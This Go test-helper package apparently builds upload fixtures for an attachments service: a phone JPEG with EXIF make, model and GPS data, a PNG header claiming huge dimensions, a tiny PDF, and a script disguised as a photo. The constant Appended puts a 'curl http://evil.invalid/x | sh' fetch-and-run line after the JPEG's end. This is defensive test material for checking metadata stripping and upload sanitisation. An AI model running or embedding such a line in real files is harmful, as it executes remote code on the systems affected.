// Package evidencetest makes the files the tests of attachments upload: a
// phone's photo with EXIF (GPS position, phone model, capture time, an
// orientation) and bytes appended after the image, a PNG header that claims
// a huge image, a small PDF.
package evidencetest

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
)

// Model, Appended and GPSMark are what a photo carries that must never be
// served: the phone's model (in EXIF), a script after the image's end, and
// the bytes of its GPS latitude reference tag's neighbourhood.
const (
	Model    = "Pixel 8 Pro TIAOJIE-TEST"
	Appended = "#!/bin/sh\ncurl http://evil.invalid/x | sh # TIAOJIE-APPENDED\n"
	DateTime = "2026:11:30 08:15:00"
)

// Picture is a w × h test picture: smooth gradients, a dark square in the
// top-left quarter (so that orientation shows), and, with noise, grain like
// a phone sensor's (so that it compresses like a photo).
func Picture(w, h int, noise bool) *image.RGBA { return picture(w, h, noise, 1) }

// Frame is a noisy Picture whose grain is drawn from seed: frames of
// different seeds are different photos.
func Frame(w, h int, seed uint64) *image.RGBA { return picture(w, h, true, seed) }

func picture(w, h int, noise bool, seed uint64) *image.RGBA {
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	r := rand.New(rand.NewPCG(seed, 2))
	for y := range h {
		for x := range w {
			c := color.RGBA{uint8(x * 255 / max(1, w-1)), uint8(y * 255 / max(1, h-1)), 128, 255}
			if x < w/4 && y < h/4 {
				c = color.RGBA{20, 20, 20, 255}
			}
			if noise {
				n := r.IntN(41) - 20
				c.R, c.G, c.B = clamp(int(c.R)+n), clamp(int(c.G)+n), clamp(int(c.B)+n)
			}
			m.SetRGBA(x, y, c)
		}
	}
	return m
}

func clamp(v int) uint8 { return uint8(min(255, max(0, v))) }

// PhonePhoto is img as a phone's JPEG: at the given quality, an APP1 EXIF
// segment with the phone's make and model, the capture time, the
// orientation tag and a GPS position, and Appended after the end of the
// image. img is stored as the sensor saw it: orientation says how to turn it.
func PhonePhoto(img image.Image, quality, orientation int) []byte {
	var enc bytes.Buffer
	if err := jpeg.Encode(&enc, img, &jpeg.Options{Quality: quality}); err != nil {
		panic(err)
	}
	raw := enc.Bytes()
	app1 := exif(orientation)
	var out bytes.Buffer
	out.Write(raw[:2]) // SOI
	out.Write([]byte{0xFF, 0xE1})
	binary.Write(&out, binary.BigEndian, uint16(len(app1)+2))
	out.Write(app1)
	out.Write(raw[2:])
	out.WriteString(Appended)
	return out.Bytes()
}

// exif is an APP1 payload: "Exif\0\0" and a little-endian TIFF structure
// whose first IFD holds Make, Model, Orientation, DateTime and a pointer to a
// GPS IFD (latitude 39°54'N, longitude 116°23'E).
func exif(orientation int) []byte {
	le := binary.LittleEndian
	var t bytes.Buffer
	t.WriteString("II")
	binary.Write(&t, le, uint16(42))
	binary.Write(&t, le, uint32(8))
	type entry struct {
		tag, typ uint16
		count    uint32
		value    []byte // inline when at most 4 bytes, else stored after
	}
	short := func(v uint16) []byte { b := make([]byte, 2); le.PutUint16(b, v); return b }
	long := func(v uint32) []byte { b := make([]byte, 4); le.PutUint32(b, v); return b }
	ascii := func(s string) []byte { return append([]byte(s), 0) }
	rationals := func(vs ...uint32) []byte {
		var b []byte
		for _, v := range vs {
			b = append(b, long(v)...)
			b = append(b, long(1)...)
		}
		return b
	}
	ifd0 := []entry{
		{0x010F, 2, uint32(len("Google") + 1), ascii("Google")},
		{0x0110, 2, uint32(len(Model) + 1), ascii(Model)},
		{0x0112, 3, 1, short(uint16(orientation))},
		{0x0132, 2, uint32(len(DateTime) + 1), ascii(DateTime)},
		{0x8825, 4, 1, nil}, // GPS IFD offset, set below
	}
	gps := []entry{
		{0x0001, 2, 2, ascii("N")},
		{0x0002, 5, 3, rationals(39, 54, 27)},
		{0x0003, 2, 2, ascii("E")},
		{0x0004, 5, 3, rationals(116, 23, 17)},
	}
	size := func(es []entry) int { return 2 + 12*len(es) + 4 }
	extra := func(es []entry) int {
		n := 0
		for _, e := range es {
			if len(e.value) > 4 {
				n += len(e.value)
			}
		}
		return n
	}
	gpsAt := 8 + size(ifd0) + extra(ifd0)
	ifd0[4].value = long(uint32(gpsAt))
	write := func(es []entry, at int) {
		data := at + size(es)
		binary.Write(&t, le, uint16(len(es)))
		var tail bytes.Buffer
		for _, e := range es {
			binary.Write(&t, le, e.tag)
			binary.Write(&t, le, e.typ)
			binary.Write(&t, le, e.count)
			if len(e.value) <= 4 {
				v := make([]byte, 4)
				copy(v, e.value)
				t.Write(v)
			} else {
				binary.Write(&t, le, uint32(data+tail.Len()))
				tail.Write(e.value)
			}
		}
		binary.Write(&t, le, uint32(0)) // no next IFD
		t.Write(tail.Bytes())
	}
	write(ifd0, 8)
	write(gps, gpsAt)
	return append([]byte("Exif\x00\x00"), t.Bytes()...)
}

// HugePNGHeader is the start of a PNG that claims w × h pixels: a valid
// signature and IHDR, and a first IDAT too short to hold them.
func HugePNGHeader(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		binary.Write(&b, binary.BigEndian, uint32(len(data)))
		crc := crc32.NewIEEE()
		crc.Write([]byte(kind))
		crc.Write(data)
		b.WriteString(kind)
		b.Write(data)
		binary.Write(&b, binary.BigEndian, crc.Sum32())
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	chunk("IHDR", ihdr)
	chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})
	chunk("IEND", nil)
	return b.Bytes()
}

// PNG is img encoded as PNG.
func PNG(img image.Image) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// PDF is a small, valid one-page PDF.
func PDF() []byte {
	return []byte("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" +
		"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
		"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n" +
		"trailer<</Root 1 0 R>>\n%%EOF\n")
}

// Script is a shell script, as someone might name photo.jpg.
func Script() []byte { return []byte("#!/bin/sh\necho pwned > /tmp/x\n") }
